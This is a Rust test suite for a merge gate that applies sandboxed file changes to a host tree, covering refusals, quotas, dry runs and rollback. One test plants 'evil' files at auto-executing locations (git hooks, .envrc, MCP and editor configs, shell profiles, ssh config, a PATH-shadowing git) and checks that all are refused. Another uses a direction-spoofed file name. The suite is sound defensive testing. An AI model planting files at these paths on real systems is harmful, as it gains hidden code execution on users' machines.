        let root = d.path();
        let planted = [
            ".git/remotes/origin2",
            ".git/branches/b",
            "lefthook-local.yml",
            ".lefthook.toml",
            ".config/lefthook.yaml",
            ".lefthook/pre-commit/x.sh",
            "mise.toml",
            ".mise.local.toml",
            ".hg/hgrc",
            ".claude/settings.json",
            ".mcp.json",
            ".cursor/mcp.json",
            ".vscode/mcp.json",
            "sub/.bashrc",
            ".profile",
            ".gitconfig",
            ".config/git/config",
            ".ssh/config",
            ".local/bin/git",
            ".config/autostart/x.desktop",
        ];
        let mut s = Stream::default();
        let mut made = std::collections::BTreeSet::new();
        for p in planted.iter().chain(&["src/lefthook.rs", "profile"]) {
            for dir in ancestors(p).collect::<Vec<_>>().into_iter().rev() {
                if made.insert(dir.to_string()) {
                    s = s.dir(dir, 0o755);
                }
            }
            s = s.file(
                p,
                0o644,
                if p.contains("lefthook.rs") || *p == "profile" {
                    b"fine"
                } else {
                    b"evil"
                },
            );
        }
        let r = apply(root, &s);
        for p in planted {
            assert!(
                r.refused.iter().any(|x| x.path == p
                    || p.starts_with(&format!("{}/", x.path))
                    || x.path.starts_with(&format!("{p}/"))),
                "{p} was merged: {:#?}",
                r.refused
            );
            assert!(!root.join(p).exists(), "{p}");
        }
        assert!(root.join("src/lefthook.rs").is_file() && root.join("profile").is_file());
    }

    #[test]
    fn removing_a_host_directory_that_holds_protected_paths_is_refused() {
        let d = host();
        let root = d.path();
        write(root, "vendor/lib/.git/hooks/x", "#!/bin/sh", 0o755);
        write(root, "proj/.envrc", "use nix", 0o644);
        write(root, "proj/main.c", "int main;", 0o644);
        write(root, "junk/a/b", "b", 0o644);
        write(root, "tree/.gitmodules", "[submodule]", 0o644);
        let s = Stream::default()
            .opaque("proj", 0o755)
            .file("proj/main.c", 0o644, b"int main(void);")
            .delete("junk")
            .file("tree", 0o644, b"now a file")
            .delete("vendor");
        let r = apply(root, &s);
        assert_eq!(changes(&r), vec![("junk", ChangeType::Deleted, "-")]);
        let why = refusal(&r, "vendor");
        assert!(
            why.starts_with("removes a protected path: `vendor/lib/.git"),
            "{why}"
        );
        assert!(refusal(&r, "proj").contains("`proj/.envrc` would go with it"));
        assert_eq!(
            refusal(&r, "proj/main.c"),
            "inside a refused directory: `proj`"
        );
        assert!(refusal(&r, "tree").contains("`tree/.gitmodules`"));
        assert!(root.join("vendor/lib/.git/hooks/x").exists());
        assert_eq!(
            std::fs::read_to_string(root.join("proj/main.c")).unwrap(),
            "int main;"
        );
        assert!(root.join("tree/.gitmodules").exists() && !root.join("junk").exists());
    }

    #[test]
    fn modes_keep_what_the_host_already_grants() {
        let d = host();
        let root = d.path();
        mkdir(root, "team", 0o2775);
        write(root, "open.txt", "x", 0o666);
        let s = Stream::default()
            .dir("team", 0o2775)
            .dir("team/new", 0o2775)
            .file("team/new/f", 0o664, b"f")
            .file("open.txt", 0o666, b"y")
            .file("mine", 0o666, b"z");
        let r = apply(root, &s);
        assert!(r.refused.is_empty(), "{:?}", r.refused);
        // setgid comes down from the parent, as mkdir does; group write is the
        // directory's; the modified file keeps the other-write it had.
        assert_eq!(mode_of(&root.join("team/new")), 0o2775);
        assert_eq!(mode_of(&root.join("team/new/f")), 0o664);
        assert_eq!(mode_of(&root.join("open.txt")), 0o666);
        assert_eq!(mode_of(&root.join("mine")), 0o644);
    }

    #[test]
    fn protected_globs_match_at_the_root_and_the_directory_itself_and_ask_is_refused() {
        for bad in ["", "/etc/x", "a/../b", "a/[b"] {
            assert!(
                ProtectedPath::new(bad, ProtectDecision::Deny, "r", "default").is_err(),
                "{bad:?}"
            );
        }
        let secrets = ProtectedPath::new(
            "secrets/**",
            ProtectDecision::Ask,
            "deploy keys",
            "policy rule `keys`",
        )
        .unwrap();
        let mut rules = rules();
        rules.protected.insert(0, secrets);
        let d = host();
        let root = d.path();
        let s = Stream::default()
            .dir("secrets", 0o755)
            .file("secrets/id", 0o600, b"key")
            .file("x.envrc", 0o644, b"not direnv's");
        let r = merge_with(root, &s, MergeMode::Apply, rules.clone()).unwrap();
        assert_eq!(
            refusal(&r, "secrets"),
            "protected path: `secrets/**` (policy rule `keys`): deploy keys (ask: the merge gate does not ask approvers yet, so refused)"
        );
        assert_eq!(changes(&r), vec![("x.envrc", ChangeType::Added, "file")]);

        rules.protected[0].glob = "a/../b".into();
        let e = gate(root, MergeMode::DryRun, rules).err().unwrap();
        assert!(matches!(e, MergeError::BadProtectedPath { .. }), "{e}");
    }

    #[test]
    fn quotas_fail_the_whole_merge_and_leave_the_host_as_it_was() {
        let d = host();
        let root = d.path();
        write(root, "big", &"b".repeat(100), 0o644);
        write(root, "a", "a", 0o644);
        let before = snapshot(root);
        let small = GateRules {
            quota_bytes: 10,
            quota_entries: 2,
            ..rules()
        };
        let bytes = Stream::default()
            .file("a", 0o644, b"123456")
            .file("b", 0o644, b"123456");
        let e = merge_with(root, &bytes, MergeMode::Apply, small.clone()).unwrap_err();
        assert!(
            matches!(e, MergeError::Quota { kind: QuotaKind::Bytes, used: 12, allowed: 10, ref path, .. } if path == "b"),
            "{e}"
        );
        assert!(
            e.to_string()
                .contains("12 B (12 bytes) of changed file content, 10 B (10 bytes) allowed"),
            "{e}"
        );
        let entries = Stream::default()
            .dir("x", 0o755)
            .file("x/1", 0o644, b"")
            .file("x/2", 0o644, b"");
        let e = merge_with(root, &entries, MergeMode::Apply, small.clone()).unwrap_err();
        assert!(
            matches!(
                e,
                MergeError::Quota {
                    kind: QuotaKind::Entries,
                    used: 3,
                    allowed: 2,
                    ..
                }
            ),
            "{e}"
        );
        assert_eq!(snapshot(root), before);
        assert_no_staging(root);

        // Content equal to the host's and deletes do not count.
        let unchanged = Stream::default()
            .file("big", 0o644, "b".repeat(100).as_bytes())
            .delete("a")
            .delete("nothing");
        let r = merge_with(root, &unchanged, MergeMode::Apply, small).unwrap();
        assert_eq!(changes(&r), vec![("a", ChangeType::Deleted, "-")]);
    }

    #[test]
    fn long_paths_are_bounded_in_total_before_anything_is_checked() {
        let d = host();
        let root = d.path();
        let before = snapshot(root);
        let deep = vec!["y".repeat(250); 15].join("/");
        let mut stream = Stream::default();
        // Deletes count against no quota but this one: 9,000 paths of 4 KB.
        for i in 0..9000 {
            stream = stream.delete(&format!("{i:08}{}/{deep}", "x".repeat(240)));
        }
        let many = GateRules {
            quota_entries: 100_000,
            ..rules()
        };
        let e = merge_with(root, &stream, MergeMode::Apply, many).unwrap_err();
        assert!(
            matches!(
                e,
                MergeError::Quota {
                    kind: QuotaKind::PathBytes,
                    allowed: MAX_STREAM_PATH_BYTES,
                    ..
                }
            ),
            "{e}"
        );
        assert!(
            e.to_string()
                .contains("of paths in the change stream, at most 32.0 MiB"),
            "{e}"
        );
        assert_eq!(snapshot(root), before);
        assert_no_staging(root);
    }

    #[test]
    fn a_dry_run_writes_nothing_and_reports_what_applying_does() {
        let make = || {
            let d = host();
            write(d.path(), "mod.txt", "old", 0o644);
            write(d.path(), "gone/x", "x", 0o644);
            write(d.path(), "same.txt", "same", 0o644);
            d
        };
        let s = Stream::default()
            .delete("gone")
            .file("mod.txt", 0o644, b"new")
            .file("new.txt", 0o644, b"n")
            .file("same.txt", 0o600, b"same")
            .file(".envrc", 0o644, b"x")
            .special("sock", "a socket");
        let (dry, real) = (make(), make());
        let before = snapshot(dry.path());
        let r = merge_with(dry.path(), &s, MergeMode::DryRun, rules()).unwrap();
        assert_eq!(snapshot(dry.path()), before);
        assert_no_staging(dry.path());
        let applied = apply(real.path(), &s);
        assert!(r.dry_run && !applied.dry_run);
        assert_eq!(
            (&r.changes, &r.refused, r.bytes),
            (&applied.changes, &applied.refused, applied.bytes)
        );
        assert_eq!(
            changes(&r),
            vec![
                ("gone", ChangeType::Deleted, "-"),
                ("mod.txt", ChangeType::Modified, "file"),
                ("new.txt", ChangeType::Added, "file"),
                ("same.txt", ChangeType::Modified, "file"),
            ]
        );
        assert!(
            r.summary_line().starts_with("would merge 4 changes"),
            "{}",
            r.summary_line()
        );
        // A mode-only change is applied with the host's content.
        assert_eq!(
            std::fs::read_to_string(real.path().join("same.txt")).unwrap(),
            "same"
        );
        assert_eq!(mode_of(&real.path().join("same.txt")), 0o600);
    }

    #[test]
    fn a_failure_mid_commit_rolls_everything_back() {
        if !running_as_root() {
            skip("bind-mounting a directory (to make renaming it fail) needs root");
            return;
        }
        let d = host();
        let root = d.path();
        write(root, "a.txt", "a", 0o644);
        write(root, "d/x", "x", 0o644);
        write(root, "d/y", "y", 0o644);
        write(root, "m/inner", "i", 0o644);
        write(root, "z.txt", "z", 0o644);
        std::os::unix::fs::symlink("a.txt", root.join("l")).unwrap();
        let m = CString::new(root.join("m").as_os_str().as_bytes()).unwrap();
        // SAFETY: mount with NUL-terminated paths and no filesystem type or data.
        let rc = unsafe {
            libc::mount(
                m.as_ptr(),
                m.as_ptr(),
                std::ptr::null(),
                libc::MS_BIND,
                std::ptr::null(),
            )
        };
        if rc != 0 {
            skip(&format!(
                "bind mount refused here: {}",
                io::Error::last_os_error()
            ));
            return;
        }
        struct Unmount(CString);
        impl Drop for Unmount {
            fn drop(&mut self) {
                // SAFETY: umount2 with a NUL-terminated path.
                unsafe { libc::umount2(self.0.as_ptr(), libc::MNT_DETACH) };
            }
        }
        let _unmount = Unmount(m);
        let before = snapshot(root);
        // Renaming a mount point fails (EBUSY): `m` fails after everything before it
        // was done.
        let s = Stream::default()
            .file("a.txt", 0o644, b"changed")
            .dir("d", 0o700)
            .delete("d/x")
            .file("d/y", 0o644, b"yy")
            .link("l", "z.txt")
            .dir("new", 0o755)
            .file("new/f", 0o644, b"f")
            .delete("m")
            .file("z.txt", 0o644, b"zz");
        let e = apply_err(root, &s);
        match &e {
            MergeError::Commit {
                path, unrestored, ..
            } => {
                assert_eq!(path, "m");
                assert!(unrestored.is_empty(), "{unrestored:?}");
            }
            other => panic!("{other}"),
        }
        assert!(e
            .to_string()
            .contains("the host tree was left as it was before this merge"));
        assert_eq!(snapshot(root), before);
        assert_no_staging(root);
    }

    fn apply_err(root: &Path, s: &Stream) -> MergeError {
        merge_with(root, s, MergeMode::Apply, rules()).unwrap_err()
    }

    #[test]
    fn a_malformed_stream_fails_the_whole_merge() {
        let d = host();
        let root = d.path();
        write(root, "x", "x", 0o644);
        std::os::unix::fs::symlink(".", root.join("lnk")).unwrap();
        let before = snapshot(root);
        let long = "a/".repeat(2048) + "b";
        for bad in [
            "",
            "/abs",
            "a//b",
            "a/../b",
            "./a",
            "a/",
            "a\0b",
            long.as_str(),
        ] {
            let e = apply_err(root, &Stream::default().file(bad, 0o644, b"x"));
            assert!(matches!(e, MergeError::BadPath { .. }), "{bad:?}: {e}");
        }
        type Expect = fn(&MergeError) -> bool;
        let cases: Vec<(Stream, Expect)> = vec![
            (
                Stream::default()
                    .file_entry("f", 5)
                    .data(b"abc")
                    .file("g", 0o644, b""),
                |e| {
                    matches!(
                        e,
                        MergeError::SizeMismatch {
                            declared: 5,
                            received: 3,
                            ..
                        }
                    )
                },
            ),
            (Stream::default().file_entry("f", 5).data(b"abc"), |e| {
                matches!(
                    e,
                    MergeError::SizeMismatch {
                        declared: 5,
                        received: 3,
                        ..
                    }
                )
            }),
            (Stream::default().file_entry("f", 2).data(b"abc"), |e| {
                matches!(
                    e,
                    MergeError::SizeMismatch {
                        declared: 2,
                        received: 3,
                        ..
                    }
                )
            }),
            (Stream::default().data(b"abc"), |e| {
                matches!(e, MergeError::DataWithoutFile { .. })
            }),
            (Stream::default().dir("d", 0o755).data(b"abc"), |e| {
                matches!(e, MergeError::DataWithoutFile { .. })
            }),
            (Stream::default().file("f", 0o644, b"ab").data(b"c"), |e| {
                matches!(
                    e,
                    MergeError::SizeMismatch {
                        declared: 2,
                        received: 3,
                        ..
                    }
                )
            }),
            (
                Stream::default()
                    .file("f", 0o644, b"1")
                    .file("f", 0o644, b"2"),
                |e| matches!(e, MergeError::DuplicatePath { .. }),
            ),
            (
                Stream::default().file("d/f", 0o644, b"1").dir("d", 0o755),
                |e| matches!(e, MergeError::OutOfOrder { .. }),
            ),
            (
                Stream::default()
                    .file("f", 0o644, b"1")
                    .file("f/g", 0o644, b"2"),
                |e| matches!(e, MergeError::OutOfOrder { .. }),
            ),
            // No entry makes `nodir`, and the host has none (or only a symlink).
            (Stream::default().file("nodir/f", 0o644, b"1"), |e| {
                matches!(e, MergeError::HostNotAsExpected { .. })
            }),
            (Stream::default().file("lnk/f", 0o644, b"1"), |e| {
                matches!(e, MergeError::HostNotAsExpected { .. })
            }),
        ];
        for (s, expected) in cases {
            let e = apply_err(root, &s);
            assert!(expected(&e), "{s:?}: {e}");
        }
        let mut unknown = Stream::default().file("f", 0o644, b"1");
        unknown.last_entry_mount("elsewhere");
        assert!(matches!(
            apply_err(root, &unknown),
            MergeError::UnknownMount { .. }
        ));

        // An error stops the merge for good.
        let mut g = gate(root, MergeMode::Apply, rules()).unwrap();
        assert!(g.feed(ChangeEvent::Data(b"x".to_vec())).is_err());
        let again = g.feed(Stream::default().dir("ok", 0o755).0.remove(0));
        assert!(matches!(again, Err(MergeError::Stopped { .. })));
        assert!(matches!(g.finish(), Err(MergeError::Stopped { .. })));

        assert_eq!(snapshot(root), before);
        assert_no_staging(root);
    }

    impl Stream {
        fn last_entry_mount(&mut self, mount: &str) {
            for ev in self.0.iter_mut().rev() {
                if let ChangeEvent::Entry(e) = ev {
                    e.mount = mount.into();
                    return;
                }
            }
        }
    }

    /// The launcher holds a gate across `.await`s of a spawned session.
    const _: fn() = || {
        fn send<T: Send>() {}
        send::<MergeGate>();
    };

    #[test]
    fn dropping_an_unfinished_gate_removes_what_it_staged() {
        let d = host();
        let root = d.path();
        let before = snapshot(root);
        let mut g = gate(root, MergeMode::Apply, rules()).unwrap();
        for ev in Stream::default().file("f", 0o644, b"staged content").0 {
            g.feed(ev).unwrap();
        }
        let staged: Vec<_> = std::fs::read_dir(root).unwrap().collect();
        assert_eq!(staged.len(), 1, "one staging directory");
        drop(g);
        assert_eq!(snapshot(root), before);
    }

    #[test]
    fn symlink_targets_and_paths_are_checked_lexically() {
        assert_eq!(symlink_refusal("a/b/l", "../../x"), None);
        assert_eq!(symlink_refusal("a/l", "./b/./c"), None);
        assert!(symlink_refusal("a/l", "../../x").is_some());
        assert!(symlink_refusal("l", "..").is_some());
        assert!(symlink_refusal("a/l", "b/../..").is_some());
        assert!(symlink_refusal("l", "").is_some());
        assert!(check_path("a/b.c/d").is_ok());
        assert!(check_path(&"n".repeat(256)).is_err());
        assert!(compile_rule("**/.git/hooks/**").unwrap().ancestors.len() == 2);
        let r = compile_rule("**/.envrc").unwrap();
        assert!(r.matchers[0].is_match(".envrc") && r.matchers[0].is_match("a/b/.envrc"));
        assert!(!r.matchers[0].is_match("a.envrc"));
        let r = compile_rule("**/.idea/**").unwrap();
        assert!(r.matchers.iter().any(|m| m.is_match(".idea")));
        let star = compile_rule("*.pem").unwrap();
        assert!(star.matchers[0].is_match("k.pem") && !star.matchers[0].is_match("d/k.pem"));
    }

    #[test]
    fn the_summary_line_names_a_few_refusals() {
        let change = |path: &str, change| MergedChange {
            mount: M.into(),
            path: path.into(),
            change,
            kind: "file",
        };
        let refused = |path: &str| RefusedChange {
            mount: M.into(),
            path: path.into(),
            reason: "protected path: `x` (default): y".into(),
        };
        let r = MergeReport {
            dry_run: false,
            changes: vec![
                change("a", ChangeType::Added),
                change("b", ChangeType::Replaced),
            ],
            refused: ["p\nq", "r\u{202e}gpj.exe", "s", "t", "u"]
                .into_iter()
                .map(refused)
                .collect(),
            bytes: 12 * 1024 + 10,
        };
        assert_eq!(
            r.summary_line(),
            "merged 2 changes (1 added, 1 replaced; 12.0 KiB); refused 5: p\\nq (protected path), r\\u{202e}gpj.exe (protected path), s (protected path) and 2 more"
        );
        let json = serde_json::to_value(&r).unwrap();
        assert_eq!(json["changes"][1]["change"], "replaced");
        let empty = MergeReport {
            dry_run: true,
            changes: vec![],
            refused: vec![],
            bytes: 0,
        };
        assert_eq!(empty.summary_line(), "would merge no changes");
    }
}
